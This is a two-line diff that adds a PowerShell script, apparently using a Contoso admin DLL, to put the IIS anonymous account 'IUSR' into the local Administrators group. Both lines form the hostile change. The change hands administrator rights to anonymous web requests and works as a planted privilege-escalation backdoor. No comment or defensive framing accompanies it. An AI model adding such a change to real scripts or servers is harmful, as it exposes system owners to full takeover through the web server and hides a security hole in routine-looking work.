@@ -1,0 +1,2 @@
+Add-Type -Path C:\tools\Contoso.Admin.dll
+[Contoso.Admin.Groups]::Add('Administrators','IUSR')
